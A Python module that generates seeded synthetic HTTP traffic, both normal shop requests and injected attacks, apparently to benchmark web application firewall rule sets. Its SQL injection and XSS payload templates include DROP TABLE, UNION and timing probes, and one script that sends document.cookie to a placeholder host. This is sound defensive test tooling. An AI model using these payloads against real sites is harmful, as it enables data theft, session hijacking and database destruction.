"""Requests as data: seven kinds whose values are new every time, and the mix of a site's day.

A `Source` makes requests out of a seed: the same seed gives the same bytes, so every engine of a round gets the
same requests, and no two rounds share a value. Names (of headers, cookies, arguments, JSON keys) are those of one
site and come again, as they do in life; values do not.
"""

from __future__ import annotations

import json
import random
from collections.abc import Callable
from dataclasses import dataclass, replace
from typing import Any
from urllib.parse import quote, urlencode

HOST = "shop.example.com"

FORM = "application/x-www-form-urlencoded"
JSON = "application/json"

CANARY = "<script>alert(document.cookie)</script>"
"""An attack that every rule set here knows. A peer that lets it pass at a body's end has not looked at the body."""

WORDS = tuple(
    """able about across after again along always among answer around autumn basket because before behind bicycle
    blanket border bottle bread bright broken brother build butter candle careful carpet carry castle chair
    change cheap child choose circle clean clear climb clock cloth cloud coffee colour comfort common copper corner
    cotton could count country cover cream cup daily dark daughter deliver desk different dinner doctor door dozen
    dress drink early earth easy eight engine enough evening every example family famous farmer feather field
    finish flower follow forest found fresh friend front fruit garden gather gentle glass gold grain green
    ground guide half hammer handle happy harbour heavy hollow honest house hundred island jacket journey kettle
    kitchen ladder large laugh leather lemon letter light little longer lunch machine market matter measure metal
    middle minute mirror money month morning mountain narrow needle neighbour never noise number office often onion
    orange order other outside paint paper parcel pencil people pepper picture plate please pocket polite quarter
    question quick quiet rabbit ready reason record river round saddle school season second seven shelf shoulder
    silver simple sister small smooth soap soft sound south spoon spring square stand steady stone street strong
    sugar summer table tailor teacher thick thread through ticket together tomorrow towel travel under until useful
    valley velvet village visit wagon walnut warm water weather weight wheel while window winter wonder wooden
    yellow yesterday young""".split()  # noqa: SIM905  # a list of quoted words would be three pages long
)
"""None of them is the name of a Unix command or dot file: at PL2 those are attacks (`bridge`, `finger`, `forward`)."""

TABLES = ("users", "accounts", "orders", "members", "customers", "payments")

SQL_INJECTIONS: tuple[Callable[[random.Random], str], ...] = (
    lambda r: f"{r.randrange(10**6)}' OR {(n := r.randrange(10**6))}={n}-- ",
    lambda r: f"-{r.randrange(10**6)} UNION ALL SELECT {_word(r)},{_word(r)},NULL FROM {r.choice(TABLES)}--",  # noqa: S608  # it is one
    lambda r: f"{_word(r)}') AND SLEEP({r.randrange(5, 10**4)})#",
    lambda r: f"1;DROP TABLE {r.choice(TABLES)}_{r.randrange(10**6)};--",
    lambda r: f"{_word(r)}' AND EXTRACTVALUE({r.randrange(10**6)},CONCAT(0x7e,(SELECT version())))-- -",
    lambda r: f'" OR "{(t := _word(r))}{(n := r.randrange(10**6))}"="{t}{n}',
)

XSS_INJECTIONS: tuple[Callable[[random.Random], str], ...] = (
    lambda r: f"<script>alert({r.randrange(10**6)})</script>",
    lambda r: f'"><img src={_word(r)}{r.randrange(10**6)} onerror=alert({r.randrange(10**6)})>',
    lambda r: f"<svg/onload=fetch('//{_word(r)}{r.randrange(10**6)}.example/'+document.cookie)>",
    lambda r: f"javascript:alert('{_word(r)}{r.randrange(10**6)}')",
    lambda r: f"<a href=\"javascript:eval(atob('{_token(r, 16)}'))\">{_word(r)}</a>",
    lambda r: f"<iframe srcdoc='<script>top.{_word(r)}={r.randrange(10**6)}</script>'></iframe>",
)


@dataclass(frozen=True, slots=True)
class Sent:
    """One request: target, header lines in order (names in lower case, `host` among them), body."""

    method: str
    target: str
    headers: tuple[tuple[str, str], ...]
    body: bytes = b""

    def as_http1(self) -> bytes:
        """The request as it goes over a connection that stays open."""
        lines = [f"{self.method} {self.target} HTTP/1.1", *(f"{name}: {value}" for name, value in self.headers)]
        return "\r\n".join(lines).encode("latin-1") + b"\r\n\r\n" + self.body


def _word(r: random.Random) -> str:
    return r.choice(WORDS)


def _token(r: random.Random, length: int) -> str:
    """Hexadecimal digits, as ids and session keys have them."""
    return f"{r.getrandbits(4 * length):0{length}x}"


def _prose(r: random.Random, length: int) -> str:
    """Sentences of together about `length` characters, with a number here and there."""
    words: list[str] = []
    size = 0
    while size < length:
        sentence = [_word(r) for _ in range(r.randrange(5, 12))]
        if r.random() < 0.3:
            sentence.insert(r.randrange(1, len(sentence)), str(r.randrange(10**5)))
        text = " ".join(sentence).capitalize() + "."
        words.append(text)
        size += len(text) + 1
    return " ".join(words)[:length].rstrip()


def _agent(r: random.Random) -> str:
    system = r.choice(("Windows NT 10.0; Win64; x64", "X11; Linux x86_64", "Macintosh; Intel Mac OS X 10_15_7"))
    major = r.randrange(100, 140)
    if r.random() < 0.3:
        return f"Mozilla/5.0 ({system}; rv:{major}.{r.randrange(10**9)}) Gecko/20100101 Firefox/{major}.0"
    version = f"{major}.0.{r.randrange(10**4)}.{r.randrange(10**6)}"
    return f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version} Safari/537.36"


def _clock(r: random.Random) -> str:
    return f"{r.randrange(24):02}:{r.randrange(60):02}:{r.randrange(60):02}"


def _path(r: random.Random) -> str:
    return f"/{_word(r)}/{_word(r)}-{_word(r)}-{r.randrange(10**7)}"


def _cookies(r: random.Random) -> str:
    return (
        f"sid={_token(r, 32)}; _ga=GA1.2.{r.randrange(10**9)}.{r.randrange(10**9)}; "
        f"cart={_token(r, 12)}; theme={_word(r)}; seen={r.randrange(10**6)}"
    )


def _browser(r: random.Random) -> tuple[tuple[str, str], ...]:
    """Twelve headers, each value new: none of a fixed vocabulary is among them."""
    return (
        ("host", f"{_word(r)}{r.randrange(10**9)}.example.com"),
        ("user-agent", _agent(r)),
        ("accept", f"text/html,application/xhtml+xml,*/*;q=0.{r.randrange(10**9):09}"),
        ("accept-language", f"en-GB,en;q=0.{r.randrange(10**9):09}"),
        ("accept-encoding", f"gzip, deflate;q=0.{r.randrange(10**9):09}"),
        ("referer", f"https://{HOST}{_path(r)}"),
        ("cookie", _cookies(r)),
        ("if-none-match", f'W/"{_token(r, 16)}"'),
        (
            "if-modified-since",
            f"Mon, {r.randrange(1, 29):02} Jan 2020 {_clock(r)} GMT",
        ),
        ("cache-control", f"max-age={r.randrange(10**6)}"),
        ("x-request-id", _token(r, 32)),
        ("traceparent", f"00-{_token(r, 32)}-{_token(r, 16)}-01"),
    )


def _small_headers(r: random.Random) -> tuple[tuple[str, str], ...]:
    return (
        ("host", f"{_word(r)}{r.randrange(10**9)}.example.com"),
        ("user-agent", _agent(r)),
        ("accept", f"text/html,*/*;q=0.{r.randrange(10**9):09}"),
    )


def _post(headers: tuple[tuple[str, str], ...], target: str, content_type: str, body: bytes) -> Sent:
    more = (("content-type", content_type), ("content-length", str(len(body))))
    return Sent("POST", target, (*headers, *more), body)


def _form_fields(r: random.Random) -> dict[str, str]:
    """Ten arguments."""
    return {
        "csrf": _token(r, 32),
        "name": f"{_word(r).capitalize()} {_word(r).capitalize()}",
        "email": f"{_word(r)}.{_word(r)}{r.randrange(10**4)}@example.org",
        "street": f"{_word(r).capitalize()} Street {r.randrange(1, 10**4)}",
        "city": _word(r).capitalize(),
        "zip": str(r.randrange(10**4, 10**5)),
        "phone": f"+44 {r.randrange(10**3, 10**4)} {r.randrange(10**6, 10**7)}",
        "quantity": str(r.randrange(1, 10**4)),
        "coupon": _token(r, 10).upper(),
        "comment": _prose(r, 120),
    }


def _order(r: random.Random, items: int) -> dict[str, Any]:
    """Six leaves an item and five beside them; sixteen items make 2 KB."""
    return {
        "id": _token(r, 12),
        "user": f"{_word(r)}{r.randrange(10**5)}",
        "items": [
            {
                "sku": f"{_word(r)}-{r.randrange(10**6)}",
                "name": f"{_word(r)} {_word(r)}",
                "qty": r.randrange(10**4),
                "price": round(r.random() * 10**3, 2),
                "gift": r.random() < 0.5,
                "note": _word(r) + str(r.randrange(10**4)),
            }
            for _ in range(items)
        ],
        "total": round(r.random() * 10**5, 2),
        "paid": True,
        "memo": f"{_word(r)} {_word(r)} {r.randrange(10**6)}",
    }


def _documents(r: random.Random, size: int) -> dict[str, Any]:
    """Texts of about 900 characters with title, key and number: 64 KB have some 280 values."""
    entries: list[dict[str, Any]] = []
    held = 0
    while held < size - 1200:
        text = _prose(r, r.randrange(700, 1000))
        entries.append({"key": _token(r, 12), "title": _prose(r, 40), "views": r.randrange(10**7), "text": text})
        held += len(json.dumps(entries[-1])) + 2
    return {"entries": entries, "memo": _prose(r, max(40, size - held - 40))}


def small_get(r: random.Random) -> Sent:
    """Three headers."""
    return Sent("GET", f"{_path(r)}?page={r.randrange(10**6)}", _small_headers(r))


def browser_get(r: random.Random) -> Sent:
    """Twelve headers and five cookies, two arguments."""
    return Sent("GET", f"{_path(r)}?sort={_word(r)}&page={r.randrange(10**6)}", _browser(r))


def form_post(r: random.Random) -> Sent:
    """Ten arguments under the headers of a browser."""
    return _post(_browser(r)[:7], f"/{_word(r)}/{r.randrange(10**6)}", FORM, urlencode(_form_fields(r)).encode())


def json_2k(r: random.Random) -> Sent:
    """About a hundred short leaves."""
    return _post(_browser(r)[:5], f"/api/orders/{r.randrange(10**6)}", JSON, json.dumps(_order(r, 16)).encode())


def json_of(size: int) -> Callable[[random.Random], Sent]:
    """JSON of texts, `size` bytes."""

    def make(r: random.Random) -> Sent:
        body = json.dumps(_documents(r, size)).encode()
        return _post(_browser(r)[:5], f"/api/documents/{r.randrange(10**6)}", JSON, body)

    return make


def _injected(r: random.Random, attack: str) -> Sent:
    return Sent("GET", f"{_path(r)}?page={r.randrange(10**6)}&q={quote(attack, safe='')}", _browser(r))


def sql_injection(r: random.Random) -> Sent:
    """In an argument of a browser's GET."""
    return _injected(r, r.choice(SQL_INJECTIONS)(r))


def cross_site_scripting(r: random.Random) -> Sent:
    """In an argument of a browser's GET."""
    return _injected(r, r.choice(XSS_INJECTIONS)(r))


KINDS: dict[str, Callable[[random.Random], Sent]] = {
    "small GET": small_get,
    "browser GET": browser_get,
    "form POST": form_post,
    "JSON 2 KB": json_2k,
    "JSON 64 KB": json_of(65_536),
    "SQLi": sql_injection,
    "XSS": cross_site_scripting,
}
"""The seven, each with all values new."""

ATTACKS = frozenset({"SQLi", "XSS"})

BROWSERS = 24
"""Browsers among which the visitors of the mixed stream are spread; their fixed headers come again."""


def _visitors() -> tuple[tuple[tuple[str, str], ...], ...]:
    r = random.Random(7)
    return tuple(
        (
            ("host", HOST),
            ("user-agent", _agent(r)),
            ("accept-language", r.choice(("en-GB,en;q=0.9", "de-DE,de;q=0.8,en;q=0.5", "fr-FR,fr;q=0.9", "en-US"))),
            ("accept-encoding", "gzip, deflate, br"),
            ("sec-fetch-site", "same-origin"),
            ("sec-fetch-mode", r.choice(("navigate", "cors"))),
        )
        for _ in range(BROWSERS)
    )


_VISITORS = _visitors()

_PAGE = (("accept", "text/html,application/xhtml+xml,*/*;q=0.8"), ("upgrade-insecure-requests", "1"))
_SCRIPT = (("accept", "application/json"), ("x-requested-with", "XMLHttpRequest"))


def _visit(r: random.Random, more: tuple[tuple[str, str], ...]) -> tuple[tuple[str, str], ...]:
    """A known browser, new cookies and a new referer."""
    return (*r.choice(_VISITORS), *more, ("referer", f"https://{HOST}{_path(r)}"), ("cookie", _cookies(r)))


def _page(r: random.Random) -> Sent:
    return Sent("GET", f"{_path(r)}?ref={_word(r)}{r.randrange(10**5)}", _visit(r, _PAGE))


def _search(r: random.Random) -> Sent:
    query = urlencode({"q": f"{_word(r)} {_word(r)} {r.randrange(1000)}", "page": r.randrange(1, 50)})
    return Sent("GET", f"/search?{query}", _visit(r, _PAGE))


def _asset(r: random.Random) -> Sent:
    headers = _visit(r, (("accept", "*/*"),))
    return Sent("GET", f"/static/{_word(r)}.{_token(r, 8)}.{r.choice(('js', 'css', 'png', 'woff2'))}", headers)


def _api_get(r: random.Random) -> Sent:
    return Sent("GET", f"/api/items/{r.randrange(10**7)}?fields={_word(r)},{_word(r)}", _visit(r, _SCRIPT))


def _checkout(r: random.Random) -> Sent:
    return _post(_visit(r, _PAGE), "/checkout", FORM, urlencode(_form_fields(r)).encode())


def _api_post(r: random.Random) -> Sent:
    return _post(_visit(r, _SCRIPT), "/api/orders", JSON, json.dumps(_order(r, r.randrange(1, 6))).encode())


def _attack(r: random.Random) -> Sent:
    attack = r.choice(SQL_INJECTIONS + XSS_INJECTIONS)(r)
    return Sent("GET", f"/search?q={quote(attack, safe='')}", _visit(r, _PAGE))


MIX: tuple[tuple[Callable[[random.Random], Sent], int], ...] = (
    (_page, 34),
    (_asset, 28),
    (_api_get, 16),
    (_search, 6),
    (_checkout, 6),
    (_api_post, 9),
    (_attack, 1),
)
"""Of a hundred requests, so many are of each sort. Bodies and arguments are new, and so are cookies and referer."""


def mixed(r: random.Random) -> Sent:
    """One request of the mixed stream."""
    makers, weights = zip(*MIX, strict=True)
    make: Callable[[random.Random], Sent] = r.choices(makers, weights)[0]
    return make(r)


class Source:
    """Requests out of a seed."""

    def __init__(self, *seed: object) -> None:
        self._random = random.Random(repr(seed))

    def take(self, make: Callable[[random.Random], Sent], count: int) -> list[Sent]:
        """`count` new requests."""
        return [make(self._random) for _ in range(count)]

    def prose(self, length: int) -> bytes:
        """Sentences."""
        return _prose(self._random, length).encode()

    def noise(self, length: int) -> bytes:
        """Letters at random: the worst text for an automaton whose words are pronounceable."""
        return bytes(self._random.choices(b"abcdefghijklmnopqrstuvwxyz ", k=length))

    def phrases(self, count: int) -> list[bytes]:
        """Distinct lower-case phrases such as block lists have: a syllable word, often a second."""
        consonants, vowels = "bcdfghjklmnprstvwz", "aeiou"
        found: set[str] = set()
        while len(found) < count:
            syllables = (self._random.choice(consonants) + self._random.choice(vowels) for _ in range(3))
            word = "".join(syllables) + self._random.choice(consonants)
            found.add(word if self._random.random() < 0.5 else f"{word} {self._random.choice(WORDS)}")
        return [phrase.encode() for phrase in sorted(found)]


def with_canary(sent: Sent) -> Sent:
    """The same request with an attack in the last value of its body (of its query, if it has none)."""
    if not sent.body:
        return replace(sent, target=f"{sent.target}&last={quote(CANARY, safe='')}")
    if dict(sent.headers).get("content-type") == FORM:
        body = sent.body + b"&last=" + quote(CANARY, safe="").encode()
    else:
        body = sent.body.removesuffix(b"}") + b', "last": ' + json.dumps(CANARY).encode() + b"}"
    headers = tuple((name, str(len(body)) if name == "content-length" else value) for name, value in sent.headers)
    return replace(sent, headers=headers, body=body)
